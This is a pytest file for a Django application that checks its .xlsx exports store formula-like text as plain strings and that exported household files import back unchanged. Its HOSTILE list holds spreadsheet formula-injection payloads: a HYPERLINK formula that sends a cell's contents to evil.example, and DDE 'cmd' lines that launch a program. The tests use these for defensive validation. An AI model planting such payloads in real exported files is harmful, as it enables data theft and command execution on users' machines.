"""Text that looks like a formula (= + - @, a leading tab or CR) leaves every .xlsx export as text, never as a
live formula (HYPERLINK, DDE ``cmd|…``), and an exported household file still imports back unchanged."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from gongzhi.core.exports import xlsx_response
from gongzhi.people.models import Person
from gongzhi.places.imports import create_import
from gongzhi.places.models import ImportStatus

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_hostile_text_is_written_as_text_and_reads_back_as_typed():
    response, count, _ = xlsx_response("x", "表", ["说明", "数"], [[text, -5] for text in HOSTILE])
    assert count == len(HOSTILE)
    assert "<f>" not in sheet_xml(response.content)  # no formula anywhere
    ws = load_workbook(io.BytesIO(response.content)).active  # formulas as formulas (not data_only)
    rows = list(ws.iter_rows(min_row=2))
    assert [r[0].value for r in rows] == HOSTILE
    assert all(r[0].data_type == "s" and r[0].quotePrefix for r in rows)  # Excel's own mark for '=…
    assert all(r[1].value == -5 and r[1].data_type == "n" for r in rows)  # numbers stay numbers


@pytest.mark.parametrize("name", ["=1+2", "+86王", "-张三", "@李四"])
def test_a_household_export_with_a_formula_like_name_imports_back_unchanged(client, tree, community_staff,
                                                                            resident, name,
                                                                            django_capture_on_commit_callbacks):
    Person.objects.filter(pk=resident.person.pk).update(name=name)
    client.force_login(community_staff)
    r = client.get(f"/places/{tree['community'].pk}/export/households.xlsx")
    assert "<f>" not in sheet_xml(r.content)
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    assert rows[1][1] == name
    with django_capture_on_commit_callbacks(execute=True):  # the job starts once the upload commits
        job = create_import(kind="households", upload=SimpleUploadedFile("住户.xlsx", r.content),  # the file itself
                            place=tree["community"], by=community_staff)
    job.refresh_from_db()
    assert job.status == ImportStatus.DONE, job.errors
    resident.person.refresh_from_db()
    assert resident.person.name == name


def test_the_places_export_writes_text_too(client, tree, community_staff):
    tree["household"].__class__.objects.filter(pk=tree["household"].pk).update(address="=HYPERLINK(\"x\")")
    client.force_login(community_staff)
    r = client.get(f"/places/{tree['community'].pk}/export/places.xlsx")
    assert r.status_code == 200
    assert "<f>" not in sheet_xml(r.content)
